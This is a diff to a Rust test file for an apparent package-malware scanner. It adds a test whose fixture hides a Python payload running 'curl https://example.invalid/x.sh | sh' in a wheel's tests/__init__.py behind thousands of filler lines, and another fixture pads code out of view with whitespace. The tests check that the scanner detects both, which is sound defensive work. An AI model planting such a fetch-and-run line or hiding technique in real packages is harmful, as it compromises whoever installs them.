@@ -252,6 +252,26 @@ fn payload_behind_a_large_test_suite_is_still_followed() {
 }
 
 #[test]
+fn test_package_imported_by_name_is_parsed_past_the_budget() {
+    // The budget is spent on honest tests; the payload sits in the test package's own
+    // `__init__`, which the package imports as `tests`.
+    let filler = format!("import os\ndef test_x():\n    assert os.getcwd()\n{}\n", "# filler line of a long test module\n".repeat(3_000));
+    let payload = format!("import subprocess\nsubprocess.Popen('curl https://example.invalid/x.sh | sh', shell=True)\n{filler}");
+    let threaded = Scanner::new(ScanConfig { member_threads: 2, ..ScanConfig::default() }).unwrap();
+    for init in ["from . import tests\n", "import demo.tests\n"] {
+        let data = wheel(&[("demo/tests/test_a.py", &filler), ("demo/tests/__init__.py", &payload), ("demo/__init__.py", init)]);
+        for s in [scanner(), &threaded] {
+            let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+            assert!(
+                r.findings.iter().any(|f| f.rule == "py-import-download-exec" && f.path == "demo/tests/__init__.py"),
+                "{:#?}",
+                r.findings
+            );
+        }
+    }
+}
+
+#[test]
 fn files_held_without_a_sink_are_parsed_once_the_package_has_one() {
     // `__init__` and the host-details helper name nothing that acts, so they are held back
     // unparsed; the network module makes the package one that can act, and the held files are
@@ -274,9 +294,11 @@ fn files_held_without_a_sink_are_parsed_once_the_package_has_one() {
     // Without the network module nothing can act: no behaviour, but the text checks still ran.
     let hidden = format!("X = 1{}import os\n", " ".repeat(200));
     let data = wheel(&[("demo/__init__.py", init), ("demo/util.py", util), ("demo/pad.py", &hidden)]);
-    let r = scanner().scan_bytes(&data, "demo-1.0-py3-none-any.whl");
-    assert!(!rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
-    assert!(rules_of(&r).contains(&"py-hidden-code"), "{:#?}", r.findings);
+    for s in [scanner(), &threaded] {
+        let r = s.scan_bytes(&data, "demo-1.0-py3-none-any.whl");
+        assert!(!rules_of(&r).iter().any(|x| x.starts_with("py-import")), "{:#?}", r.findings);
+        assert!(rules_of(&r).contains(&"py-hidden-code"), "{:#?}", r.findings);
+    }
 }
 
 #[test]
